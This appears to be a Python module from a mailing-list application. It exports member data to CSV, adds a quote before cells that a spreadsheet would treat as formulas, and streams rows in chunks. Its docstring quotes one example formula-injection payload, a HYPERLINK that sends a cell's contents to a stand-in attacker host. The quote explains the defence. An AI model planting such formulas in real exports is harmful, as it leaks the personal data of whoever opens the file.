"""CSV exports that are safe to open in a spreadsheet, and the members export itself.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and one that
starts with a tab or a carriage return may be read as one after the program strips it. A member's
name is written by the member (the sign-up form, the preferences page) or by whoever made an
import file, so ``=HYPERLINK("http://evil.example/?d="&B2,"Open")`` in a name would run in the
spreadsheet of whoever opens the export (CSV or formula injection). Every CSV mailer writes goes
through ``safe_cell``, which puts a ``'`` before such a cell, so the spreadsheet shows it as text;
``raw=True`` (``--raw`` on the command line) writes the cells as stored. An import strips that one
``'`` again (``unneutralise``), so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import os
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TextIO

from sqlalchemy import select
from sqlalchemy.orm import Session

from mailer.audience.segments import compile_segment
from mailer.audience.shape import Shape
from mailer.models import Interest, Member, MemberField, MemberInterest, Region

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def safe_cell(value: Any) -> str:
    """``value`` as CSV cell text that no spreadsheet runs as a formula: a ``'`` goes before text
    starting with ``= + - @``, a tab or a carriage return; other text is unchanged."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def unneutralise(cell: str) -> str:
    """``cell`` with the ``'`` that ``safe_cell`` adds taken off again (for imports)."""
    if cell.startswith("'") and cell[1:2] and cell[1:].startswith(FORMULA_LEADS):
        return cell[1:]
    return cell


def open_private(path: Path) -> TextIO:
    """``path`` opened to write CSV, readable by its owner only (mode 0600, an existing file's
    mode changed too): exports, rejected and kept rows hold members' personal data."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        os.fchmod(fd, 0o600)
    except OSError:
        os.close(fd)
        raise
    return os.fdopen(fd, "w", newline="", encoding="utf-8")


class SafeWriter:
    """A ``csv.writer`` whose cells go through ``safe_cell`` (unless ``raw``).

    A row holding a carriage return is written with every cell quoted: Python's writer quotes
    only the characters of its own line ending, so with ``"\n"`` a bare CR would otherwise end
    the row early for every reader."""

    def __init__(self, out: TextIO, *, raw: bool = False, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)
        self._quoting_all = csv.writer(out, **{**kwargs, "quoting": csv.QUOTE_ALL})
        self.raw = raw

    def writerow(self, row: Iterable[Any]) -> None:
        cells = [("" if cell is None else str(cell)) if self.raw else safe_cell(cell) for cell in row]
        writer = self._quoting_all if any("\r" in cell for cell in cells) else self._writer
        writer.writerow(cells)


# ---------------------------------------------------------------------------------------------
# The members export: one CSV row per member, streamed in chunks


@dataclass(frozen=True)
class ExportRow:
    email: str
    name: str
    postcode: str
    region: str
    interests: tuple[str, ...]
    fields: dict[str, str]


FIXED_COLUMNS = ("email", "name", "postcode", "region", "interests")


def field_names(session: Session) -> list[str]:
    """Every free-form field name held for any member, sorted."""
    return list(session.scalars(select(MemberField.name).distinct().order_by(MemberField.name)))


def iter_members(
    session: Session, expression: str, shape: Shape, *, chunk_size: int = 2000
) -> Iterator[ExportRow]:
    """The members ``expression`` matches, in id order, streamed ``chunk_size`` rows at a time.

    One query streams the members (a server-side cursor on PostgreSQL) as plain rows, never ORM
    objects; each chunk's interests and fields then come in one query each, so memory stays
    bounded however large the list.
    """
    result = session.execute(
        select(Member.id, Member.email, Member.name, Member.postcode, Region.slug)
        .outerjoin(Region, Member.region_id == Region.id)
        .where(compile_segment(expression, shape))
        .order_by(Member.id)
        .execution_options(yield_per=chunk_size)
    )
    for rows in result.partitions():
        ids = [row[0] for row in rows]
        # Dense chunks (the usual case for a whole region) fetch by id range, which is cheap to
        # plan and run; sparse ones list their ids.
        dense = ids[-1] - ids[0] < 2 * len(ids)
        mi_of_chunk = (
            MemberInterest.member_id.between(ids[0], ids[-1]) if dense else MemberInterest.member_id.in_(ids)
        )
        mf_of_chunk = (
            MemberField.member_id.between(ids[0], ids[-1]) if dense else MemberField.member_id.in_(ids)
        )
        interests: dict[int, list[str]] = {}
        for member_id, slug in session.execute(
            select(MemberInterest.member_id, Interest.slug)
            .join(Interest, Interest.id == MemberInterest.interest_id)
            .where(mi_of_chunk)
            .order_by(MemberInterest.member_id, Interest.slug)
        ):
            interests.setdefault(member_id, []).append(slug)
        fields: dict[int, dict[str, str]] = {}
        for member_id, name, value in session.execute(
            select(MemberField.member_id, MemberField.name, MemberField.value).where(mf_of_chunk)
        ):
            fields.setdefault(member_id, {})[name] = value
        for member_id, email, name, postcode, region in rows:
            yield ExportRow(
                email=email,
                name=name,
                postcode=postcode,
                region=region or "",
                interests=tuple(interests.get(member_id, ())),
                fields=fields.get(member_id, {}),
            )


def write_csv(
    session: Session,
    out: TextIO,
    shape: Shape,
    expression: str = "all",
    *,
    chunk_size: int = 2000,
    raw: bool = False,
) -> int:
    """Write the members ``expression`` matches to ``out`` as CSV; return how many rows were written.

    Columns: email, name, postcode, region, interests (``;``-joined), then every free-form field
    name held in the database, sorted. The expression is checked before anything is written.
    Cells that a spreadsheet would run as formulas get a ``'`` before them unless ``raw``.
    """
    compile_segment(expression, shape)  # raise on a bad expression before the header goes out
    extra = field_names(session)
    writer = SafeWriter(out, raw=raw, lineterminator="\n")
    writer.writerow([*FIXED_COLUMNS, *extra])
    written = 0
    for row in iter_members(session, expression, shape, chunk_size=chunk_size):
        writer.writerow(
            [
                row.email,
                row.name,
                row.postcode,
                row.region,
                ";".join(row.interests),
                *(row.fields.get(f, "") for f in extra),
            ]
        )
        written += 1
    return written


__all__ = [
    "FIXED_COLUMNS",
    "FORMULA_LEADS",
    "ExportRow",
    "SafeWriter",
    "field_names",
    "iter_members",
    "safe_cell",
    "unneutralise",
    "write_csv",
]
